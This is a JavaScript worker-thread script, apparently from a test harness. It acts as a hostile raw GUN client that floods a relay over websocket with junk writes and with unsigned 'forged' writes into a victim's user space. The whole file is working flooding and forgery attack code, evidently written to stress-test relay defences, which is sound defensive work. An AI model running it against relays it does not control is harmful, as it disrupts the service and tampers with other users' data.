// Plain JS (worker threads do not get the tsx loader). A hostile raw GUN client (worker thread): floods a relay with junk puts in public space and unsigned writes
// into a victim's user space, straight on the websocket (no GUN, no SEA), as fast as asked.
import { parentPort, workerData } from 'node:worker_threads';
import { performance } from 'node:perf_hooks';
import WebSocket from 'ws';

const { gunUrl, victimPub, channel, perSecond } = workerData;

function randomId(n = 9) {
  return Math.random().toString(36).slice(2, 2 + n).padEnd(n, '0');
}

/** One GUN wire message writing `value` at soul/key with the current state, signed by nobody. */
function rawPut(soul, key, value) {
  return { '#': randomId(), put: { [soul]: { _: { '#': soul, '>': { [key]: Date.now() } }, [key]: value } } };
}

const ws = new WebSocket(gunUrl.replace(/^http/, 'ws'));
ws.on('message', () => undefined); // acks and errors: read and ignore
ws.on('error', () => undefined);
ws.once('open', () => {
  let sent = 0;
  let forged = 0;
  const tickMs = 10;
  const perTick = Math.max(1, Math.round((perSecond * tickMs) / 1000));
  const junk = 'x'.repeat(200);
  const started = performance.now();
  const timer = setInterval(() => {
    // Never queue more than 1 MB locally: what counts is what reaches the relay.
    if (ws.readyState !== WebSocket.OPEN || ws.bufferedAmount > 1_000_000) return;
    const batch = [];
    for (let i = 0; i < perTick; i++) {
      if (i % 10 === 0) {
        batch.push(rawPut(`~${victimPub}/md1/c/${channel}`, `forged${randomId()}`, 'forged'));
        batch.push(rawPut(`~${victimPub}`, 'md1', 'forged'));
        forged += 2;
      } else {
        batch.push(rawPut(`junk${randomId(4)}`, randomId(6), junk));
      }
    }
    ws.send(JSON.stringify(batch));
    sent += batch.length;
  }, tickMs);
  parentPort?.on('message', () => {
    clearInterval(timer);
    ws.terminate();
    parentPort?.postMessage({ sent, forged, seconds: (performance.now() - started) / 1000 });
  });
  parentPort?.postMessage({ ready: true });
});
